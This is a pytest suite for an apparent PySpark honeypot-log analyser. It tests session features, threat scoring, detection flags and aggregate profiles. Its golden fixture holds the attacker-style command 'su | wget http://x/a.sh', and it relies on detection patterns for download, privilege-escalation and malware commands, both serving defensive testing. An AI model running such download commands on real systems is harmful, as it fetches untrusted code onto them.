"""Golden log, and random logs against a plain-Python reading of the semantics."""

import random
import re
from collections import Counter

import pytest
from pyspark.sql import functions as F

from wardlog import schema as S
from wardlog.operators import events as E
from wardlog.operators import sessions as SE
from wardlog.plans import profiles as P
from wardlog.sources import logs


def rows(df, key="session_id"):
    return {r[key]: r for r in df.collect()}


def joined(events):
    """The pieces of each session put together."""
    pieces = {}
    for r in SE.joined_commands(events).collect():
        pieces.setdefault(r["session_id"], []).append((r["position"], r["piece"]))
    return {name: "".join(p for _, p in sorted(found)) for name, found in pieces.items()}


def test_golden_sessions(spark, micro_dir):
    raw = logs.scan_jsonl(spark, micro_dir)
    got, text = rows(SE.session_features(raw)), joined(raw)
    assert set(got) == {"s1", "s2", "s3"}
    s1, s2, s3 = got["s1"], got["s2"], got["s3"]
    assert text == {"s1": "su | wget http://x/a.sh"}
    assert (s1["login_attempt_count"], s1["command_count"], s1["event_count"]) == (2, 2, 6)
    assert [n for n in S.PATTERNS if s1[n]] == [
        "has_download_command", "has_privilege_escalation", "has_malware_indicators"]
    assert (s1["threat_score"], s1["threat_level"], s1["threat_code"]) == (15, "high", 2)
    assert (s1["duration"], s1["username"], s1["password"]) == (12.5, "root", "admin")
    assert s1["end_time"].startswith("2024-01-01T00:00:06")
    assert (s1["client_version"], s1["hassh"], s1["start_time"][:19]) == ("v1", "h1", "2024-01-01T00:00:01")
    assert (s2["threat_score"], s2["threat_level"], s2["duration"], s2["username"]) == (0, "low", 1.0, None)
    assert (s3["threat_score"], s3["threat_level"], s3["duration"], s3["end_time"]) == (5, "medium", 0.0, None)
    assert s2["event_count"] == 3


def test_golden_profiles(spark, micro_dir):
    raw = logs.scan_jsonl(spark, micro_dir)
    events, sessions, tokens = E.events_b(raw), SE.session_features(raw), SE.command_tokens(raw)
    assert events.count() == 11 and E.events_a(raw).count() == 11
    assert P.login_summary(events).first().asDict() == {
        "total_attempts": 4, "successful_logins": 2, "failed_logins": 2, "success_rate": 50.0}
    assert P.command_totals(sessions, tokens).first().asDict() == {
        "total_command_sessions": 1, "total_commands": 2, "unique_commands": 2}
    kinds = {r["command_type"]: r for r in P.command_type_distribution(sessions).collect()}
    assert {k for k, r in kinds.items() if r["count"]} == {"download", "privilege_escalation", "malware"}
    assert abs(kinds["malware"]["percentage"] - 100 / 3) < 1e-12
    assert {r["threat_level"]: r["count"] for r in P.threat_distribution(sessions).collect()} == {
        "low": 1, "medium": 1, "high": 1}
    ip = rows(P.top_ip_profile(sessions), "src_ip")["10.0.0.1"]
    assert (ip["total_sessions"], ip["high_threat"], ip["medium_threat"], ip["low_threat"]) == (2, 1, 1, 0)
    assert (ip["login_success_rate"], ip["avg_command_count"]) == (100.0, 1.0)
    assert P.unique_ips(sessions).first()[0] == 2


def test_swapped_commands_lose_the_privilege_flag(spark):
    got = fold_in_spark(spark, {"a": ["wget http://x/a.sh", "su"]})["a"]
    assert got["has_privilege_escalation"] == 0 and got["has_download_command"] == 1


def make_events(spark, typed, seconds=None):
    """Command events of the given sessions, interleaved."""
    data, n = [], 0
    for session, inputs in typed.items():
        for i, text in enumerate(inputs):
            data.append((session, S.EVENT_COMMAND, f"2024-01-01T00:{(i // 60) % 60:02d}:{i % 60:02d}Z", text, i * 1000 + n))
        n += 1
    random.Random(1).shuffle(data)
    df = spark.createDataFrame(data, "session string, eventid string, timestamp string, input string, ord long")
    return df.withColumns({n: F.lit(None).cast("string") for n in S.RAW_FIELDS if n not in df.columns})


def fold_in_spark(spark, typed):
    return rows(SE.session_features(make_events(spark, typed)))


WORDS = ["su", "sudo ls", "ip", "ip a", "|", "| |", "a |", "a | |", "| b", "", "ls | grep x", "x", "chmod", "chmod +x f",
         "cat f |", "| | c", "vi\tx", "su root", "ip\x1crun", " |", "a | b |", "| a |", "chmod 7x"]


def random_sessions(seed, count=150, longest=9):
    rnd = random.Random(seed)
    return {f"s{i}": [rnd.choice(WORDS) for _ in range(rnd.randint(1, longest))] for i in range(count)}


def test_flags_equal_the_patterns_on_the_joined_text(spark):
    typed = random_sessions(7)
    got = fold_in_spark(spark, typed)
    for name, inputs in typed.items():
        text = " | ".join(inputs)
        for flag, pattern in S.PATTERNS.items():
            assert got[name][flag] == int(bool(re.search(pattern, text))), (flag, inputs)
        assert got[name]["has_command_text"] == (text != "")


@pytest.mark.parametrize("limit", [1, 2, 3, 100])
def test_tokens_equal_the_split_of_the_joined_text(spark, limit):
    """Small limits cut every session into many parts; the tokens must not change."""
    typed = random_sessions(11)
    got = Counter((r["session_id"], r["command"]) for r in SE.command_tokens(make_events(spark, typed), limit).collect())
    want = Counter((n, t) for n, i in typed.items() if " | ".join(i) != "" for t in " | ".join(i).split(" | "))
    assert got == want


def test_pieces_put_together_give_the_joined_text(spark):
    typed = random_sessions(5)
    assert joined(make_events(spark, typed)) == {name: " | ".join(inputs) for name, inputs in typed.items()}


@pytest.mark.parametrize("size", [1, 30_000])
def test_one_grain_at_any_size(spark, size):
    """A session with a third of all events, all of one time: one session row, one row per entry, the same profiles."""
    hot = [WORDS[i % len(WORDS)] for i in range(size)]
    typed = {"hot": hot, **{f"c{i}": ["ls", "id"] for i in range(size)}}
    events = make_events(spark, typed).withColumn("timestamp", F.lit("2024-01-01T00:00:00Z"))
    sessions = SE.session_features(events)
    assert sessions.groupBy("session_id").count().where("count > 1").isEmpty() and sessions.count() == size + 1
    assert sessions.where("session_id = 'hot'").first()["command_count"] == size
    assert SE.session_entries(events).count() == 3 * size and SE.commands(events).count() == 3 * size
    assert SE.joined_commands(events).select("session_id", "position").distinct().count() == 3 * size
    assert P.basic_statistics(sessions, E.events_b(events)).first()["total_sessions"] == size + 1
    got = Counter(r["command"] for r in SE.command_tokens(events, limit=100).where("session_id = 'hot'").collect())
    assert got == Counter(" | ".join(hot).split(" | "))


def test_long_texts_are_cut_by_their_size(spark):
    typed = {"a": ["x" * 300] * 10 + ["y" * 900, ""] + ["z"] * 50, "b": ["ls"] * 20}
    events = make_events(spark, typed)
    cut = SE._text_parts(events, 1000, 1000).collect()
    assert max(len(r["commands"]) for r in cut) <= 1000 + 50 * 3
    assert [r["part"] for r in cut if r["session_id"] == "b"] == [0] and sum(r["session_id"] == "a" for r in cut) > 3
    got = Counter((r["session_id"], r["command"]) for r in SE.command_tokens(events, 1000, 1000).collect())
    assert got == Counter((n, t) for n, i in typed.items() for t in " | ".join(i).split(" | "))


def test_dirty_numbers_do_not_abort(spark):
    values = ["0.004", "0.004", "1e17", "Infinity", "-Infinity", "NaN", "x", None, "1e10"]
    data = [(f"s{i}", S.EVENT_CLOSED, v, i) for i, v in enumerate(values)]
    df = spark.createDataFrame(data, "session string, eventid string, duration string, ord long")
    df = df.withColumns({n: F.lit(None).cast("string") for n in S.RAW_FIELDS if n not in df.columns})
    got = rows(SE.session_features(df))
    assert [got[f"s{i}"]["duration"] for i in range(len(values))] == [0.004, 0.004, 1e17, 0.0, 0.0, 0.0, 0.0, 0.0, 1e10]
    low = SE.session_features(df.where("session IN ('s0', 's1')"))
    assert rows(P.threat_characteristics(low), "threat_level")["low"]["avg_duration"] == 0.004
    assert rows(P.threat_characteristics(SE.session_features(df)), "threat_level")["low"]["avg_duration"] > 1e16


@pytest.mark.parametrize("word", ["|", "| |", "a |", " |", "| | |"])
@pytest.mark.parametrize("limit", [1, 2, 5])
def test_sessions_of_one_repeated_command(spark, word, limit):
    typed = {f"s{n}": ["x"] * (n % 2) + [word] * n + ["y"] for n in range(1, 14)}
    got = Counter((r["session_id"], r["command"]) for r in SE.command_tokens(make_events(spark, typed), limit).collect())
    assert got == Counter((n, t) for n, i in typed.items() for t in " | ".join(i).split(" | "))


def test_per_file_keeps_the_greatest_file_only(spark):
    data = [("a", "f1", S.EVENT_LOGIN_SUCCESS, 1), ("a", "f1", "x", 2), ("a", "f2", "x", 3), ("b", "f1", "x", 4)]
    df = spark.createDataFrame(data, "session string, file string, eventid string, ord long")
    df = df.withColumns({n: F.lit(None).cast("string") for n in S.RAW_FIELDS if n not in df.columns})
    got = rows(SE.sessionize(df, per_file=True))
    assert (got["a"]["event_count"], got["a"]["login_success"]) == (1, False) and got["b"]["event_count"] == 1
    merged = rows(SE.sessionize(df))
    assert (merged["a"]["event_count"], merged["a"]["login_success"]) == (3, True)


def test_numeric_profile_needs_no_sort(spark):
    events = logs.load_events(spark, "/root/testdata/sf0.001")
    plan = P.threat_characteristics(SE.session_features(events))._jdf.queryExecution().executedPlan().toString()
    assert "SortAggregate" not in plan and "HashAggregate" in plan and "PythonUDF" not in plan


def test_empty_tables(spark):
    assert E.empty_events(spark).count() == 0 and E.empty_sessions(spark).columns == S.SESSION_COLUMNS
    got = {r["threat_level"]: r for r in P.threat_characteristics(spark.createDataFrame([], S.FEATURES_SCHEMA)).collect()}
    assert set(got) == {"high", "medium", "low"} and all(r["count"] == 0 and r["avg_duration"] is None for r in got.values())
    stats = P.basic_statistics(spark.createDataFrame([("a",)], "session_id string"), E.empty_events(spark)).first()
    assert (stats["total_sessions"], stats["successful_logins"], stats["high_threat"]) == (1, 0, 0)
